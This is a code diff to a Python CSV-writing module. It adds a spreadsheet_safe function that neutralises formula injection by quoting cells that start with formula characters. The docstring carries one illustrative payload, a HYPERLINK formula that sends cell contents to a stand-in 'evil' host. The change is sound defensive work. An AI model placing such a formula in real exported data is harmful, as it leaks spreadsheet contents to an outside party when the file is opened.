@@ -33,6 +33,7 @@ from __future__ import annotations
 import codecs
 import contextlib
 import csv
+import io
 import json
 import math
 import os
@@ -55,10 +56,12 @@ __all__ = [
     "InvalidRecords",
     "Loaded",
     "atomic_output",
+    "format_csv",
     "load_notes",
     "load_summaries",
     "raise_invalid",
     "read_rows",
+    "spreadsheet_safe",
     "write_csv",
     "write_jsonl",
 ]
@@ -564,19 +567,48 @@ def write_csv(path: Path | str, header: Sequence[str],
     """Write a CSV atomically; rows are sequences or mappings keyed by the header; return the count.
 
     None becomes an empty cell, lists and dicts become JSON (so that
-    :func:`read_rows` reads ``meta`` and ``key_concepts`` back).
+    :func:`read_rows` reads ``meta`` and ``key_concepts`` back). Text cells are
+    safe to open in a spreadsheet (see :func:`spreadsheet_safe`).
     """
-    count = 0
     with atomic_output(path) as handle:
-        writer = csv.writer(handle, lineterminator="\n")
-        writer.writerow(header)
-        for row in rows:
-            cells = [row.get(name) for name in header] if isinstance(row, Mapping) else list(row)
-            if len(cells) != len(header):
-                raise ValueError(f"row {count + 1} has {len(cells)} cells, the header has {len(header)}")
-            writer.writerow([_csv_cell(cell) for cell in cells])
-            count += 1
+        return _write_csv(handle, header, rows)
+
+
+def format_csv(header: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> str:
+    """The same CSV as :func:`write_csv`, as text (for standard output)."""
+    buffer = io.StringIO()
+    _write_csv(buffer, header, rows)
+    return buffer.getvalue()
+
+
+def _write_csv(handle: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
+    writer = csv.writer(handle, lineterminator="\n")
+    writer.writerow([spreadsheet_safe(name) for name in header])
+    count = 0
+    for row in rows:
+        cells = [row.get(name) for name in header] if isinstance(row, Mapping) else list(row)
+        if len(cells) != len(header):
+            raise ValueError(f"row {count + 1} has {len(cells)} cells, the header has {len(header)}")
+        writer.writerow([_csv_cell(cell) for cell in cells])
+        count += 1
     return count
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """Text a spreadsheet will not run as a formula: ``'`` before a leading = + - @ (or tab, CR).
+
+    A system name such as ``=HYPERLINK("http://evil/?"&A1)`` would otherwise run
+    when the CSV is opened. Text that reads as a plain number (``-0.5``) is left
+    alone: it is a number to the spreadsheet too. JSONL outputs are the lossless
+    format; CSV is for people and spreadsheets.
+    """
+    if not text.startswith(_FORMULA_START) or _PLAIN_NUMBER.match(text):
+        return text
+    return "'" + text
 
 
 def _csv_cell(value: Any) -> Any:
@@ -584,4 +616,6 @@ def _csv_cell(value: Any) -> Any:
         return ""
     if isinstance(value, dict | list):
         return json.dumps(value, ensure_ascii=False)
+    if isinstance(value, str):
+        return spreadsheet_safe(value)
     return value
